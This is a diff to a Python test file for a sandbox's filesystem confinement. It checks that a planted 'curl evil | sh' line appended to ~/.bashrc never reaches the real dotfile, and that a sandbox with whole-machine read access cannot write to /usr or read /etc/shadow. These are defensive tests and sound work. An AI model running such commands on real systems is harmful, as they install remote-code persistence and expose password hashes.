@@ -255,3 +255,17 @@ async def test_a_dotfile_linked_into_a_repository_is_masked_at_its_target(
     sandbox = make(home.root, home.reach(read=(home.root,), write=(home.root,)))
     await sandbox.run("echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null; true")
     assert (dotfiles / "bashrc").read_text() == "# real bashrc\n"
+
+
+async def test_a_reach_reading_the_whole_machine_keeps_the_system_read_only(
+    home: Home, make: MakeSandbox
+) -> None:
+    reach = home.reach(read=(Path("/"),), write=(home.project,))
+    sandbox = make(home.project, reach)
+    result = await sandbox.run(
+        "ls /usr/bin/env && touch ok && echo rw-ok; touch /usr/seam-probe 2>&1 || echo usr-ro;"
+        " cat /etc/shadow 2>&1 | grep -c '^root:'"
+    )
+    assert result.output.splitlines()[:2] == ["/usr/bin/env", "rw-ok"]
+    assert "usr-ro" in result.output and result.output.rstrip().endswith("0")
+    assert not Path("/usr/seam-probe").exists()
